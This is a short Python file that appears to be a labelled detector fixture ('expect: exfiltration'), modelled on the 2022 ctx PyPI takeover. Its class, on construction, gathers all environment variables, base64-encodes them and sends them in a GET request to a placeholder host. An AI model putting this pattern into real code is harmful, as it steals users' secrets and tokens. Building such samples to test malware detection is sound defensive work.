# expect: exfiltration
# Modelled on the 2022 'ctx' PyPI takeover: the whole environment, base64-encoded, in a GET URL.
import base64
import os

import requests


class Ctx:
    def __init__(self):
        self.sendRequest()

    def sendRequest(self):
        string = ""
        for _, value in os.environ.items():
            string += value + " "
        message_bytes = string.encode("ascii")
        encoded = base64.b64encode(message_bytes).decode("ascii")
        requests.get("https://anti-theft.invalid/hacked/" + encoded)
